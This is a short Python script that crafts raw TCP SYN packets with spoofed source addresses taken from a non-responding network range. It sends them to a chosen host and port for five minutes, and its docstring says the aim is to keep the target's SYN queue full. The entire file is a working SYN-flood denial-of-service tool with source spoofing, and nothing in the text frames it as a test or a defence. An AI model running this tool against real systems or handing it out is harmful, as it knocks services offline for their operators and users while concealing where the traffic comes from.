#!/usr/bin/python3
"""half_open.py NETWORK ADDRESS PORT: IPv4 SYNs from a network that answers nothing, so that the SYN queue stays full."""

import ipaddress
import itertools
import random
import socket
import struct
import sys
import time

SECONDS = 300


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source: bytes, destination: bytes, port: int) -> bytes:
    ports = struct.pack("!HHII", random.randint(1024, 65535), port, random.getrandbits(32), 0)
    rest = struct.pack("!BBHHH", 5 << 4, 0x02, 64240, 0, 0)
    pseudo = source + destination + struct.pack("!BBH", 0, socket.IPPROTO_TCP, 20)
    summed = struct.pack("!BBHHH", 5 << 4, 0x02, 64240, checksum(pseudo + ports + rest), 0)
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, source, destination) + ports + summed


def main() -> None:
    network = ipaddress.ip_network(sys.argv[1])
    destination = ipaddress.ip_address(sys.argv[2]).packed
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    print("ready", flush=True)
    end = time.monotonic() + SECONDS
    for number in itertools.count():
        if time.monotonic() > end:
            break
        source = network.network_address + 1 + number % (network.num_addresses - 2)
        raw.sendto(syn(source.packed, destination, int(sys.argv[3])), (sys.argv[2], 0))
        time.sleep(0.005)


main()
